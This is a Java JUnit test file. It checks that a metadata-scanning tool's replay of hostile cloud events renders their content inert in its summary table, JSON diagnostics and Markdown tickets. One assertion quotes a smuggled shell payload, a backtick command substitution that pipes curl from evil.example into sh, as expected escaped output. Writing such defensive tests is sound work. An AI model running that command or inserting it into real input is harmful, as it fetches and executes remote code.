package dev.metadataguard.replay;

import static dev.metadataguard.testing.RenderedText.assertInertMarkdown;
import static dev.metadataguard.testing.RenderedText.assertNoUnsafeCharacters;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import dev.metadataguard.testing.ExpectedRows;
import dev.metadataguard.testing.TestEvents;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The replay over {@code test-events/hostile/}, after the cluster those events add pools to: every line
 * it writes to stderr is one JSON object, the summary shows no unsafe character, the forged names are
 * refused with the reason, and every ticket it writes reads back as the template's elements only.
 */
class HostileReplayTest {

    private static final String CLUSTER = TestEvents.event("01-create-cluster-v1-first-compliant.json").toString();
    // Relative, so that a decode error's reason (which starts with the file's path) fits the table's width
    // wherever the checkout lives.
    private static final String HOSTILE = Path.of("").toAbsolutePath()
            .relativize(TestEvents.root().resolve("hostile").toAbsolutePath()).toString();
    private static final String IAM = TestEvents.root().resolve("iam/acme-prod-iam-policy.json").toString();

    @Test
    void everyRowSaysWhatHappenedAndEveryDiagnosticIsOneJsonObject(@TempDir Path tickets) throws IOException {
        ReplayRun run = ReplayRun.of(Map.of(), "", "--json", "--tickets-dir", tickets.toString(), "--iam", IAM, CLUSTER, HOSTILE);

        assertEquals(Replay.UNREADABLE, run.exit(), run.err()); // the two forged entries
        assertJsonLines(run.err(), "stderr");
        List<JsonNode> rows = assertJsonLines(run.out(), "stdout");
        String cluster = "01-create-cluster-v1-first-compliant.json";
        assertEquals(List.of(
                cluster + " " + ExpectedRows.outcomeOf(cluster, "default-pool")
                        + (ExpectedRows.findingsOf(cluster, "default-pool").contains("MG004") ? " MG004" : ""),
                "01-metadata-value-markdown-html.json violation MG004",
                "02-metadata-value-shell-metacharacters.json violation MG004",
                "03-metadata-value-bidi-controls.json violation MG004",
                "04-metadata-value-32kb.json violation MG004",
                "05-principal-markup-and-controls.json violation MG004",
                "06-pool-name-forged.json error",
                "07-resource-name-forged.json error",
                "08-everything-at-once.json violation MG004"),
                rows.stream().map(HostileReplayTest::summary).toList());
    }

    @Test
    void theTableShowsTheEventsTextAsCodes(@TempDir Path tickets) {
        ReplayRun run = ReplayRun.of(Map.of(), "", "--tickets-dir", tickets.toString(), "--iam", IAM, CLUSTER, HOSTILE);

        assertEquals(Replay.UNREADABLE, run.exit(), run.err()); // the two forged entries
        assertNoUnsafeCharacters(run.out().replace("\n", ""), "the summary table");
        assertTrue(run.out().contains("'np`$(curl evil.example|sh)`\\u000A# Approved"), run.out());
    }

    @Test
    void everyTicketWrittenHasOnlyTheTemplatesElements(@TempDir Path tickets) throws IOException {
        ReplayRun run = ReplayRun.of(Map.of(), "", "--json", "--tickets-dir", tickets.toString(), "--iam", IAM, CLUSTER, HOSTILE);
        assertEquals(Replay.UNREADABLE, run.exit(), run.err()); // the two forged entries

        List<Path> written;
        try (Stream<Path> files = Files.list(tickets)) {
            written = files.filter(f -> f.toString().endsWith(".md")).sorted().toList();
        }
        // The cluster's own pool has a ticket too where a check finds it wanting; it carries no hostile text.
        written = written.stream().filter(f -> !read(f).contains("node pool default-pool")).toList();
        assertEquals(6, written.size(), "one ticket per hostile pool: " + written);
        for (Path ticket : written) {
            String markdown = Files.readString(ticket, StandardCharsets.UTF_8);
            assertInertMarkdown(markdown);
            // MEDIUM, or LOW for a pool whose only finding is the informational MG004.
            assertTrue(markdown.startsWith("# \\[Metadata Guard\\] MEDIUM: node pool hostile-")
                    || markdown.startsWith("# \\[Metadata Guard\\] LOW: node pool hostile-"), markdown);
            assertNoUnsafeCharacters(Files.readString(Path.of(ticket.toString().replace(".md", ".json"))),
                    "the JSON ticket");
        }
    }

    private static String read(Path file) {
        try {
            return Files.readString(file, StandardCharsets.UTF_8);
        } catch (IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    private static List<JsonNode> assertJsonLines(String text, String where) throws IOException {
        List<JsonNode> objects = new java.util.ArrayList<>();
        for (String line : text.split("\n")) {
            if (line.isEmpty()) {
                continue;
            }
            assertNoUnsafeCharacters(line, where);
            JsonNode node = TestEvents.JSON.readTree(line);
            assertTrue(node != null && node.isObject(), where + " line is not one JSON object: " + line);
            objects.add(node);
        }
        return objects;
    }

    /** The row's source and outcome, and MG004: the hostile pools' metadata values are the attack they carry. */
    private static String summary(JsonNode row) {
        String source = row.path("source").asText();
        boolean mg004 = row.path("findings").toString().contains("\"MG004\"");
        return source.substring(source.lastIndexOf('/') + 1) + " " + row.path("outcome").asText() + (mg004 ? " MG004" : "");
    }
}
